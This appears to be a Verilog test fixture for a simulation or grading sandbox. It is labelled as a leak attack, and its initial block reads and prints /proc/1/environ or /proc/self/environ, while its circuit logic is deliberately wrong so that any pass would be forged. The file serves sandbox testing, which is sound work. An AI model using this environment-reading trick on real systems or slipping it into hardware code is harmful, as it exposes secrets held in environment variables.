// SPDX-License-Identifier: Apache-2.0
// attack: reads_environment_of_parents
// class: leak
// does: Prints the environment of its own and of the first process.
// must not: tell a variable of the environment.
// speed: quick
module TopModule(input clk, input rst, input [7:0] a, input [7:0] b, output reg [7:0] q);
    always @(posedge clk) q <= rst ? 8'd0 : a - b;  // wrong, so a pass is a forgery
    integer f, c;
    initial begin
        f = $fopen("/proc/1/environ", "r");
        if (f == 0) f = $fopen("/proc/self/environ", "r");
        if (f != 0) begin
            c = $fgetc(f);
            while (c != -1) begin
                if (c != 0) $write("%c", c);
                c = $fgetc(f);
            end
        end
    end
endmodule
